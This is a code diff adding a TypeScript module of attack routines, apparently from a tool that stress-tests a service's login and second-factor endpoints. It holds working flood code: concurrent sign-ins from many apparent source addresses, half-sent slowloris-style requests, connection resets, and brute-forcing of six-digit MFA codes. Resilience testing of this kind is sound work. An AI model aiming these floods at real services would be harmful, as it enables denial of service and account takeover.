@@ -1,0 +1,75 @@
+/** Floods of what needs no credential: sign-ins under made-up emails, so that no account is touched. */
+import { randomUUID } from 'node:crypto';
+import { setTimeout as sleep } from 'node:timers/promises';
+import type { Attack } from '../attack.ts';
+import { floodWith, repeat } from '../target/flood.ts';
+import { firstStatus, head, openConnection } from '../target/raw-connection.ts';
+import { strangerAddress } from '../target/target.ts';
+
+const signInBody = () =>
+  JSON.stringify({ email: `${randomUUID()}@attack.invalid`, password: 'correct horse battery' });
+
+export const signInFlood: Attack = {
+  name: 'sign-in-flood',
+  title: 'sign-ins, 64 at once, from many networks where the machine has them',
+  flood: ({ url }, tally, signal) =>
+    floodWith(url, 64, tally, signal, (client, round) => ({
+      path: '/auth/login',
+      body: signInBody(),
+      from: strangerAddress(url, client, round),
+    })),
+};
+
+const HALF_SENT = 300;
+
+export const halfSentSignIns: Attack = {
+  name: 'half-sent-sign-ins',
+  title: '300 sign-ins of which half is sent',
+  flood: ({ url }, tally, signal) =>
+    repeat(HALF_SENT, signal, async () => {
+      const socket = await openConnection(url, signal);
+      if (socket === null) return;
+      const request = head(url, 'POST /api/v1/auth/login', {
+        'Content-Type': 'application/json',
+        'Content-Length': 16_384,
+      });
+      tally.send();
+      socket.write(request + '"'.padEnd(8_192, 'x'));
+      tally.receive(await firstStatus(socket));
+      socket.destroy();
+    }),
+};
+
+export const resetsAfterSending: Attack = {
+  name: 'resets-after-sending',
+  title: 'sign-ins whose connection is reset after sending',
+  flood: ({ url }, tally, signal) =>
+    repeat(16, signal, async () => {
+      const socket = await openConnection(url, signal);
+      if (socket === null) return;
+      const body = signInBody();
+      const request = head(url, 'POST /api/v1/auth/login', {
+        'Content-Type': 'application/json',
+        'Content-Length': body.length,
+      });
+      tally.send();
+      await new Promise((resolve) => socket.write(request + body, resolve));
+      socket.resetAndDestroy();
+      // The ports of the attacker's machine have to suffice.
+      await sleep(5);
+    }),
+};
+
+export const guessedCodes: Attack = {
+  name: 'guessed-codes',
+  title: 'guessing the codes of a second factor',
+  needsSession: true,
+  flood: async ({ url, session }, tally, signal) => {
+    if (session === null) return;
+    await floodWith(url, 16, tally, signal, (client, round) => ({
+      path: '/auth/mfa/challenge',
+      credential: session,
+      body: JSON.stringify({ code: String((client * 61_681 + round) % 1_000_000).padStart(6, '0') }),
+    }));
+  },
+};
